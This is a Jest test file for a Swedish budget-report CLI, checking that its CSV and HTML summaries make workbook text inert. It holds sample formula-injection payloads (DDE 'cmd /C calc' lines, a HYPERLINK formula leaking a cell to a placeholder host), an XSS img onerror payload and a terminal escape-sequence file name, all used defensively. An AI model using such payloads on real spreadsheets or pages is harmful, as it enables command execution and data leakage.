/**
 * The batch summary (--report): CSV and HTML that a finance department opens in Excel or a
 * browser. Whatever a workbook's author typed must come out as inert text.
 */
import fs from "node:fs";
import path from "node:path";
import { run } from "../../src/cli/main";
import { neutralise } from "../../src/cli/report";
import { tempDir, writeReference, writeRows } from "../helpers/workbooks";

const dir = tempDir("prognoskoll-report-");
const HOSTILE = [
  '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "<img src=x onerror=alert(1)>Köp",
];

/** A follow-up sheet, on a sheet named like a formula, whose unknown lines carry hostile labels and negative deviations. */
async function writeHostile(): Promise<string> {
  return writeRows(path.join(dir, "fientlig.xlsx"), "=Drift", [
    ["Belopp i tkr", "Budget 2025", "Prognos 2025", "Avvikelse"],
    ["Verksamhetens intäkter", 1000, 900, null],
    ...HOSTILE.map((label, k) => [label, -100 * (k + 1), -150 * (k + 1), null]),
  ]);
}

async function check(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = "";
  let stderr = "";
  const code = await run(["check", ...args], {
    stdout: (s) => void (stdout += s),
    stderr: (s) => void (stderr += s),
  });
  return { code, stdout, stderr };
}

describe("the batch summary", () => {
  let hostile: string;
  let reference: string;
  beforeAll(async () => {
    hostile = await writeHostile();
    reference = await writeReference(dir, "referens.xlsx");
  });

  test("CSV: one status row per workbook, its flags and findings, amounts as Swedish Excel reads numbers", async () => {
    const out = path.join(dir, "sammanstallning.csv");
    expect((await check([reference, hostile, path.join(dir, "saknas.xlsx"), "--report", out])).code).toBe(2);
    const text = fs.readFileSync(out, "utf8");
    expect(text.startsWith("\ufeffFil;Blad;Cell;Post;Typ;Kod;Avvikelse;Enhet;Procent av budget;Meddelande\r\n")).toBe(
      true,
    );
    const rows = text.slice(1).trim().split("\r\n");
    expect(rows).toContain(
      `${reference};Uppföljning;;;status;;;tkr;;Inte klar att skicka in förrän cellerna är skrivna: 0 fel, 0 varningar, 2 flaggade rader`,
    );
    expect(rows).toContain(`${reference};Uppföljning;D8;Köp av tjänster;flagga;;-4000;tkr;-6,3;`);
    expect(rows.some((r) => r.startsWith(`${path.join(dir, "saknas.xlsx")};;;;ej kontrollerad;`))).toBe(true);
    // The unit goes with each workbook's amounts: a batch may mix tkr and mnkr.
    const mnkr = path.join(dir, "mnkr.xlsx");
    await writeRows(mnkr, "Uppföljning", [
      ["Belopp i mnkr", "Budget 2025", "Prognos 2025", "Avvikelse"],
      ["Köp av tjänster", -63.7, -67.7, null],
    ]);
    await check([mnkr, "--report", out]);
    expect(fs.readFileSync(out, "utf8")).toContain(`${mnkr};Uppföljning;D2;Köp av tjänster;flagga;;-4;mnkr;-6,3;`);
  });

  test("CSV: every text from a workbook that a spreadsheet would run as a formula starts with an apostrophe", async () => {
    const out = path.join(dir, "fientlig.csv");
    await check([hostile, "--report", out]);
    const cells = fs
      .readFileSync(out, "utf8")
      .slice(1)
      .trim()
      .split("\r\n")
      .slice(1)
      .flatMap((row) => row.match(/("([^"]|"")*"|[^;]*)(;|$)/g)!.map((c) => c.replace(/;$/, "").replace(/^"|"$/g, "")));
    // The hostile labels are there, each made inert...
    for (const label of HOSTILE.slice(0, 4)) expect(cells.join("\n")).toContain(`'${label.replace(/"/g, '""')}`);
    expect(cells).toContain("'=Drift");
    // ...and no cell starts as a formula, except the amounts we wrote ourselves, which are plain numbers.
    const live = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
    expect(live.length).toBeGreaterThan(0);
    for (const c of live) expect(c).toMatch(/^-\d+(,\d+)?$/);
  });

  test("HTML: escaped, with no script and a policy that forbids loading anything", async () => {
    const out = path.join(dir, "fientlig.html");
    await check([hostile, "--report", out, "--lang", "en"]);
    const html = fs.readFileSync(out, "utf8");
    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;Köp");
    expect(html).not.toMatch(/<img|<script|onerror=(?!alert\(1\)&gt;)/i);
    expect(html).toContain("<td>&#39;=Drift</td>");
    expect(html).toContain("<td>&#39;=HYPERLINK(&quot;http://example.invalid/?&quot;&amp;A1,&quot;Klicka&quot;)</td>");
    // Amounts in the report's language, as its percentages are.
    expect(html).toContain('<td class="n">-250</td><td>tkr</td><td class="n">-50.0 %</td>');
  });

  test("a report that is neither .csv nor .html is refused before anything is checked", async () => {
    const r = await check([reference, "--report", path.join(dir, "x.txt")]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/--report tar en fil som slutar på \.csv eller \.html, inte ".*x\.txt"/);
    expect(fs.existsSync(path.join(dir, "x.txt"))).toBe(false);
  });

  test("a report that cannot be written is a clear message and exit status 2, before anything is checked", async () => {
    const r = await check([reference, "--report", path.join(dir, "ingen-mapp", "x.csv")]);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe("");
    expect(r.stderr).toMatch(/^prognoskoll: sammanställningen .*x\.csv gick inte att skriva \(ENOENT\)\n$/);
  });

  test("the terminal shows control characters in what it prints as ?, so a file name cannot drive the terminal", async () => {
    const named = path.join(dir, "\u001b]0;kapad\u0007\u001b[2J.xlsx");
    fs.copyFileSync(hostile, named);
    const { stdout } = await check([named]);
    expect(stdout).toContain("?]0;kapad??[2J.xlsx");
    // eslint-disable-next-line no-control-regex
    expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  });

  test.each([
    ["=1+1", "'=1+1"],
    ["+46 8 123", "'+46 8 123"],
    ["-x", "'-x"],
    ["@a", "'@a"],
    ["\tx", "'\tx"],
    ["Köp av tjänster", "Köp av tjänster"],
    ["", ""],
  ])("neutralise(%j) is %j", (input, output) => {
    expect(neutralise(input)).toBe(output);
  });
});
